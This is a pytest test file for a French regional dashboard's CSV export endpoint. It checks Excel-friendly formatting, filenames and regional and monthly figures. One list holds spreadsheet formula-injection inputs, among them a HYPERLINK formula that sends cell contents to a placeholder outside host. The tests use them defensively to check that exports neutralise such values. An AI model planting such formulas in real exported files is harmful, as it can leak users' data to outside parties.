"""``/export.csv``: the dashboard's dashboard for French Excel."""

from __future__ import annotations

import csv
import io
from typing import Any

from flask.testing import FlaskClient

from shared.figures import FIGURE_KEYS
from tests.support.web import page_text as page


def csv_rows(client: FlaskClient, url: str) -> tuple[Any, list[list[str]]]:
    response = client.get(url)
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    body = response.get_data()
    assert body.startswith(b"\xef\xbb\xbf")  # UTF-8 byte-order mark, for Excel
    text = body.decode("utf-8-sig")
    return response, list(csv.reader(io.StringIO(text), delimiter=";"))


def test_csv_export_of_the_breakdown(client: FlaskClient, counted: None) -> None:
    response, rows = csv_rows(client, "/export.csv?year=2007")
    assert response.headers["Content-Disposition"] == (
        'attachment; filename="chiffres-cles_2007_france-entiere_repartition.csv"'
    )
    header = rows[0]
    assert header[:4] == ["Année", "Périmètre", "Région", "Code"]
    assert "Jeunes reçus en entretien individuel" in header
    assert "Taux d'accès à l'emploi ou à la formation (%)" in header
    assert len(header) == 4 + len(FIGURE_KEYS)
    assert rows[1][:4] == ["2007", "France entière", "Ensemble — France entière", ""]
    assert len(rows) == 2 + 26
    # Every line names the table's scope.
    assert {row[1] for row in rows[1:]} == {"France entière"}
    by_code = {row[3]: dict(zip(header, row, strict=True)) for row in rows[2:]}
    assert by_code["11"]["Région"] == "Île-de-France"
    assert by_code["11"]["Entretiens individuels"] == "3"
    # Y1 and Y2 interviewed in Île-de-France; only Y1 got his job there.
    assert by_code["11"]["Taux d'accès à l'emploi ou à la formation (%)"] == "50,0"
    assert by_code["94"]["Jeunes en contact"] == "0"
    # Nobody interviewed in Corse: its access rate does not exist.
    assert by_code["94"]["Taux d'accès à l'emploi ou à la formation (%)"] == "n.d."
    total = dict(zip(header, rows[1], strict=True))
    assert total["Jeunes reçus en entretien individuel"] == "3"


def test_csv_export_follows_the_dashboard(client: FlaskClient, counted: None) -> None:
    response, rows = csv_rows(client, "/export.csv?year=2007&region=11&sort=interviews&order=desc")
    assert (
        'filename="chiffres-cles_2007_region-11_repartition.csv"'
        in response.headers["Content-Disposition"]
    )
    assert rows[0][2] == "Structure"
    assert rows[1][1:3] == ["Île-de-France (région 11)", "Ensemble — Île-de-France"]
    assert [row[3] for row in rows[2:]] == ["ML-11-001", "ML-11-002"]  # 2 interviews, then 1
    response, rows = csv_rows(client, "/export.csv?year=2007&structure=ML-11-002")
    # A structure's breakdown is its region's: named so, its total first, then its
    # structures by name (Créteil, Paris).
    assert (
        'filename="chiffres-cles_2007_region-11_repartition.csv"'
        in (response.headers["Content-Disposition"])
    )
    assert [row[3] for row in rows[1:]] == ["", "ML-11-002", "ML-11-001"]
    response, rows = csv_rows(client, "/export.csv?year=2007&view=month")
    assert rows[0][2] == "Mois"
    assert rows[1][2] == "Année 2007 — France entière"
    assert [row[3] for row in rows[2:]] == [f"2007-{m:02d}" for m in range(1, 13)]
    assert (
        'filename="chiffres-cles_2007_france-entiere_mois.csv"'
        in (response.headers["Content-Disposition"])
    )
    assert client.get("/export.csv?year=2007&view=pie").status_code == 400


def test_the_months_of_a_structure_are_its_own(client: FlaskClient, counted: None) -> None:
    response, rows = csv_rows(client, "/export.csv?year=2007&structure=ML-11-002&view=month")
    assert (
        'filename="chiffres-cles_2007_structure-ML-11-002_mois.csv"'
        in (response.headers["Content-Disposition"])
    )
    header = rows[0]
    lines = [dict(zip(header, row, strict=True)) for row in rows[1:]]
    assert {line["Périmètre"] for line in lines} == {
        "Mission locale de Créteil (structure ML-11-002)"
    }
    assert lines[0]["Mois"] == "Année 2007 — Mission locale de Créteil"
    assert lines[0]["Entretiens individuels"] == "1"
    # Créteil: Y1's interview of 20 March and his job of 1 April (the region had 2
    # interviews in March).
    march, april = lines[3], lines[4]
    assert (march["Code"], march["Entretiens individuels"]) == ("2007-03", "1")
    assert (april["Code"], april["Jeunes en contact"], april["Entretiens individuels"]) == (
        "2007-04",
        "1",
        "0",
    )
    assert april["Taux d'accès à l'emploi ou à la formation (%)"] == "n.d."
    assert sum(int(line["Jeunes en contact"]) for line in lines[1:]) == 2


def test_page_links_the_exports(client: FlaskClient) -> None:
    text = page(client, "/?year=2007&region=24")
    assert 'id="export-csv" href="/export.csv?year=2007&region=24" download' in text
    assert 'id="export-csv-month" href="/export.csv?year=2007&region=24&view=month"' in text
    assert client.get("/export.csv?year=2007&region=24&view=month").status_code == 200


FORMULAS = [
    '=HYPERLINK("http://x.example/?"&A1,"ouvrir")',
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\tx",
    "\rx",
]


def test_names_that_start_a_formula_are_exported_as_text(
    client: FlaskClient, sessions: Any, registry: Any
) -> None:
    from shared.registry import StructureFields, upsert_structure

    with sessions.begin() as session:
        for n, name in enumerate(FORMULAS):
            fields = StructureFields(name=name, kind="paio", region="11")
            upsert_structure(session, f"PAIO-11-9{n:02d}", fields)
    _, rows = csv_rows(client, "/export.csv?year=2007&region=11")
    names = {row[3]: row[2] for row in rows[2:]}
    for n, name in enumerate(FORMULAS):
        assert names[f"PAIO-11-9{n:02d}"] == "'" + name
    assert names["ML-11-001"] == "Mission locale de Paris"
    # Figures stay numbers.
    assert all(
        cell.replace(",", "").isdigit() or cell == "n.d." for row in rows[1:] for cell in row[4:]
    )


def test_the_report_csv_is_inert_and_keeps_negative_numbers(monkeypatch: Any) -> None:
    from dataclasses import replace

    from shared.publication.labels import LABELS
    from shared.publication.spreadsheets import inert
    from shared.report import document as report
    from shared.report.keys import REPORT_KEYS

    monkeypatch.setitem(LABELS, "paio", replace(LABELS["paio"], csv_header="=1+2"))
    document = {
        "year": 2007,
        "version": 1,
        "consolidated_at": "2008-01-01T00:00:00Z",
        "figures": {key: 0 for key in REPORT_KEYS} | {"missions_locales": -3},
        "completeness": {"structures": 1, "declarations_validated": 0},
    }
    text = report.report_csv(document, "-1 déclaration")
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    by_key = {row[6]: row for row in rows[1:]}
    assert by_key["paio"][3] == "'=1+2"
    assert by_key["funding_total"][5] == "'-1 déclaration"  # the field is text: inert too
    assert by_key["missions_locales"][4] == "-3"  # a number, not text: it stays as it is
    assert inert(-3) == -3 and inert("-3") == "'-3"
